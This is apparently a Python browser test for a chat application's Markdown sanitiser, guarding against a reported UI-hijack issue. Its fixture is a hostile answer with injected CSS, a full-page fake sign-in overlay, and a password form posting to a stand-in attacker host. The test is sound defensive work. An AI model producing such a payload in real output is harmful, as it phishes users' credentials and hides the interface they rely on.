"""An answer cannot restyle the page (issue 22, Medium 8). Model or document text is rendered as
Markdown; the sanitiser once let ``<style>``, forms, inputs and element ids through, and a
full-page "session expired — sign in" overlay linking off-site covered the app. Only what Markdown
renders survives now, and the page's own controls stay visible and usable."""

from __future__ import annotations

import pytest

from support import ScriptedProvider, register_scripted
from test_page import DONE, Page

HOSTILE = """Your session has expired.

<style>#composer, #sidebar, .topbar { display: none !important } body { background: red }</style>
<div id="session-overlay" class="app scrim" style="position:fixed;inset:0;z-index:2147483647;background:#fff">
<h2>Session expired — sign in</h2>
<form action="https://evil.example/login" method="post"><input name="password" type="password" autofocus>
<button type="submit">Sign in</button></form>
<a href="https://evil.example/login" style="position:fixed;inset:0">Sign in again</a>
</div>
<svg width="5000" height="5000" style="position:fixed;top:0;left:0"><rect width="5000" height="5000"/></svg>
<input id="input" value="hijacked"><button id="send" class="primary">fake</button>
<textarea>trap</textarea><select><option>x</option></select><iframe src="/"></iframe>

- [x] a done task
- [ ] an open task

| a | b |
|:--|--:|
| 1 | 2 |"""

# Everything in the answer's body that Markdown does not produce.
FOREIGN = """(body) => [...body.querySelectorAll('*')].filter(e =>
    ['STYLE', 'FORM', 'INPUT', 'BUTTON', 'TEXTAREA', 'SELECT', 'SVG', 'IFRAME', 'DIV'].includes(e.tagName.toUpperCase())
    || e.hasAttribute('id') || e.hasAttribute('class') || e.hasAttribute('style')).map(e => e.outerHTML)"""
# The element the user would hit at the centre of ``sel`` (it, or something inside it, if nothing covers it).
ON_TOP = """(sel) => { const el = document.querySelector(sel); const r = el.getBoundingClientRect();
    const hit = document.elementFromPoint(r.left + r.width / 2, r.top + r.height / 2);
    return !!hit && (hit === el || el.contains(hit)); }"""


@pytest.fixture
def page(chromium, web_server):
    register_scripted(web_server, "web-hostile", ScriptedProvider(HOSTILE))
    p = Page(chromium, web_server)
    yield p
    p.close()  # also: no request left the server (the form, the link, the iframe fetched nothing)


def test_a_hostile_answer_keeps_the_page_and_its_controls(page: Page) -> None:
    page.open()
    page.send("Show me the login page.", model="web-hostile")
    page.page.wait_for_function(DONE)
    assert page.answer() == HOSTILE
    body = page.page.locator(".msg-assistant .body").last
    assert body.evaluate(FOREIGN) == []
    assert "Session expired" in body.inner_text() and "☑ a done task" in body.inner_text()
    assert body.locator("table td").count() == 2
    link = body.locator("a")
    assert link.get_attribute("href") == "https://evil.example/login"
    assert link.get_attribute("target") == "_blank" and "noopener" in link.get_attribute("rel")
    # The page's own controls: shown, not covered, and working.
    for sel in ("#input", "#send", "#new-chat", "#model", "#chat-list"):
        assert page.page.locator(sel).is_visible(), sel
    for sel in ("#input", "#send", "#new-chat"):
        assert page.page.evaluate(ON_TOP, sel), f"{sel} is covered"
    assert page.page.evaluate("() => getComputedStyle(document.body).backgroundColor") != "rgb(255, 0, 0)"
    assert page.page.evaluate("() => document.querySelectorAll('#input').length") == 1
    page.page.fill("#input", "And now something harmless.")
    page.page.select_option("#model", "web-fast")
    page.page.click("#send")
    page.page.wait_for_function("() => [...document.querySelectorAll('.msg-assistant')].length === 2")
    page.page.wait_for_function(DONE)
    assert page.answer() == "Noted: books and authors."
